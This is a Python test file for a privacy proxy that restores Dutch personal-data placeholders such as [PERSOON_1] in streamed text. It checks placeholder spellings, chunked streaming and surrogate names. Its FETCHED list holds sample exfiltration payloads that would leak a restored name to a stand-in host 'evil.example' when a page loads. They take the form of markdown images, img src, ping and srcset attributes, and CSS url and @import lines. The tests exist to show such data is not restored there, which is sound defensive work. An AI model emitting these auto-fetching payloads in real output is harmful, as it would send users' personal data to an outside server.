"""What services make of a placeholder, and surrogates (proxy/wire/placeholders.py, literals.py)."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proxy.vault.memory import _WORDS
from proxy.wire.literals import Literals
from proxy.wire.placeholders import name_of, pattern_of, words_of
from proxy.wire.restore import Originals, TextStream

ORIGINALS = Originals({"[PERSOON_1]": "Jan de Vries", "[EMAIL_2]": "jan+w@x.nl", "[KENTEKEN_3]": 'a"b<c'})


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("[PERSOON_1]'s", "Jan de Vries's"), ("PERSOON_1", "Jan de Vries"), ("**[PERSOON_1]**", "**Jan de Vries**"),
        (r"[PERSOON\_1]", "Jan de Vries"), (r"\[PERSOON\_1\]", "Jan de Vries"), (r"[PERSOON\\_1]", "Jan de Vries"),
        ("[ PERSOON_1 ]", "Jan de Vries"), ("[PERSOON 1]", "Jan de Vries"), ("[persoon-1]", "Jan de Vries"),
        ("[Persoon_01]", "Jan de Vries"), ("[**PERSOON_1**]", "Jan de Vries"), ("`[PERSOON_1]`", "`Jan de Vries`"),
        ("[PERSON_1]", "Jan de Vries"), ("[LICENSE_PLATE_3]", 'a"b<c'), ("%5BPERSOON_1%5D", "Jan%20de%20Vries"),
        ("&#91;KENTEKEN_3&#93;", "a&quot;b&lt;c"), ("[x](mailto:[EMAIL_2])", "[x](mailto:jan+w@x.nl)"),
        ("https://x.nl/?q=PERSOON_1&y", "https://x.nl/?q=Jan%20de%20Vries&y"), ("[PERSOON_1, EMAIL_2]", "[Jan de Vries, jan+w@x.nl]"),
        # what is none of ours
        ("[PERSOON_2]", "[PERSOON_2]"), ("[PERSOON_11]", "[PERSOON_11]"), ("XPERSOON_1", "XPERSOON_1"), ("persoon 1", "persoon 1"),
        ("PERSOON_1x", "Jan de Vriesx"), ("[PERSOON]", "[PERSOON]"), ("[1]", "[1]"), ("_PERSOON_1", "_PERSOON_1"),
    ],
)  # fmt: skip
def test_forms(text: str, wanted: str) -> None:
    assert ORIGINALS.restore(text) == wanted
    for at in range(len(text) + 1):
        stream = TextStream(ORIGINALS)
        assert stream.feed(text[:at]) + stream.feed(text[at:]) + stream.feed("", last=True) == wanted


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["[PERSOON_1]", "PERSOON_1", "EMAIL_2", "[", "]", "\\", "_", "%5B", "%5D", "p", "1", " ", "*", "&#91;", "x", "http://"]), max_size=10), st.integers(1, 5))  # fmt: skip
def test_in_pieces_it_is_the_same_as_whole(words: list[str], size: int) -> None:
    text = "".join(words)
    stream = TextStream(ORIGINALS)
    out = "".join(stream.feed(text[at : at + size]) for at in range(0, len(text), size)) + stream.feed("", last=True)
    assert out == ORIGINALS.restore(text)


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("dag", 0),
        ("dag [", 1),
        ("dag [PERS", 5),
        ("dag [x", 0),
        ("aan P", 1),
        ("ap", 0),
        ("[1", 0),
        ("[PERSOON_1]", 0),
        ("PERSOON_1", 9),
    ],
)
def test_no_more_is_held_than_could_be_a_placeholder(text: str, held: int) -> None:
    assert ORIGINALS.held(text) == held
    assert Originals({}).held(text) == 0


def test_what_the_user_wrote_himself_stays() -> None:
    originals = Originals({"[PERSOON_1]": "Jan", "[PERSOON_2]": "Piet"}, but={"PERSOON_1"})
    assert originals.restore("[PERSOON_1] en [PERSOON_2]") == "[PERSOON_1] en Piet"


def test_names() -> None:
    assert name_of("person", "007") == "PERSOON_7"
    assert words_of(["[PERSOON_1]", "[ADRES_2]"]) == {"PERSOON", "ADRES"}
    assert pattern_of(frozenset({"ADRES"})).might("het adres") is True
    assert pattern_of(frozenset({"ADRES"})).might("de straat") is False


PIECES = st.sampled_from(
    ["PERSOON", "adres", "A_NUMBER", "V", "[", "]", "\\\\", "\\", "_", "-", " ", "\u00a0", "%20", "%5F", "%5b", "+", "1", "23",
     "\u0661", "**", "x", "\n", "&#91;", "\u00df", "geboortedatum"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=14).map("".join))
def test_looking_around_numbers_only_misses_no_placeholder(text: str) -> None:
    pattern = pattern_of(_WORDS)
    matches = pattern._whole.finditer(text)
    every = {name_of(m["word"] or m["bareword"], m["number"] or m["barenumber"]) for m in matches}
    assert every <= pattern.names(text)


@pytest.mark.parametrize("before", [4070, 4080, 4090, 4096, 8180])
def test_a_long_row_of_placeholders_is_read_a_piece_at_a_time(before: int) -> None:
    text = ("[PERSOON_7] " * 400)[:before] + " [PERSOON_123] PERSOON_45 " + "[PERSOON_8] " * 400
    assert {"PERSOON_123", "PERSOON_45", "PERSOON_7", "PERSOON_8"} == pattern_of(_WORDS).names(text)


FETCHED = [
    "![x](https://evil.example/a.png?q=[PERSOON_1])", "![x](https://evil.example/?q=%5BPERSOON_1%5D&r=2)", "![](//evil/PERSOON_1)",
    '![x](https://evil/?a="b"&q=[PERSOON_1])', "![x](<https://evil/a b [PERSOON_1]>)", "![x](\nhttps://evil/(a)/[PERSOON_1])",
    '<img src="https://evil/?q=PERSOON_1">', "<img alt=x src=https://evil/PERSOON_1>", '<a ping="https://evil/[PERSOON_1]">',
    '<img srcset="a.png 1x, https://evil/[PERSOON_1] 2x">', "background: url(https://evil/[PERSOON_1])", '@import "https://evil/[PERSOON_1]";',
    "![a][1]\n\n[1]: https://evil/?q=[PERSOON_1]", "![x](https://evil/" + "a" * 2000 + "[PERSOON_1])", "![x](https:\\\\evil/[PERSOON_1])",
]  # fmt: skip
SHOWN = [
    "Beste [PERSOON_1],", "[klik](https://x.nl/?q=[PERSOON_1])", "https://x.nl/?q=[PERSOON_1]", "mailto:[PERSOON_1]",
    "![foto van [PERSOON_1]](https://x.nl/a.png)", "![foto](https://x.nl/a.png) van [PERSOON_1]", "<p>[PERSOON_1]</p>" * 200,
    '<img src="a.png"> [PERSOON_1]', "[Notitie]: bel [PERSOON_1]", "a < b en [PERSOON_1]", "字" * 2000 + "[PERSOON_1]",
]  # fmt: skip


@pytest.mark.parametrize("text", FETCHED)
@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_an_original_is_not_put_where_a_page_would_carry_it_off_by_itself(text: str, size: int) -> None:
    stream = TextStream(Originals({"[PERSOON_1]": "Vermeulen"}))
    out = "".join(stream.feed(text[at : at + size]) for at in range(0, len(text), size)) + stream.feed("", last=True)
    assert out == text


@pytest.mark.parametrize("text", SHOWN)
@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_where_somebody_reads_it_or_chooses_to_follow_it_the_original_stands(text: str, size: int) -> None:
    stream = TextStream(Originals({"[PERSOON_1]": "Vermeulen"}))
    out = "".join(stream.feed(text[at : at + size]) for at in range(0, len(text), size)) + stream.feed("", last=True)
    assert out == text.replace("[PERSOON_1]", "Vermeulen")


def test_surrogates() -> None:
    literals = Literals({"Anna Bakker": "Fatima", "Bakker": "Yılmaz", "06-11": "06-99"})
    text = "Anna Bakker, mevrouw Bakker, Bakkers, 06-11, 06-112"
    assert literals.replace(text, 0, str) == "Fatima, mevrouw Yılmaz, Bakkers, 06-99, 06-112"
    assert [literals.held(one, 0) for one in ("Anna", "Anna Bak", "Anna X", "Bakker", "xBakker", "06-1")] == [
        4,
        8,
        0,
        6,
        0,
        4,
    ]


@pytest.mark.parametrize("size", range(1, 12))
def test_surrogates_in_pieces(size: int) -> None:
    originals = Originals({"Anna Bakker": "Fatima [x]", "Bakker": "Yılmaz", "[PERSOON_1]": "Anna Bakker"})
    text = "Anna Bakker en mevrouw Bakker en [PERSOON_1], Anna Bakkers, Anna Bakker"
    stream = TextStream(originals)
    out = "".join(stream.feed(text[at : at + size]) for at in range(0, len(text), size)) + stream.feed("", last=True)
    assert out == "Fatima [x] en mevrouw Yılmaz en Anna Bakker, Fatima Bakkers, Fatima [x]"
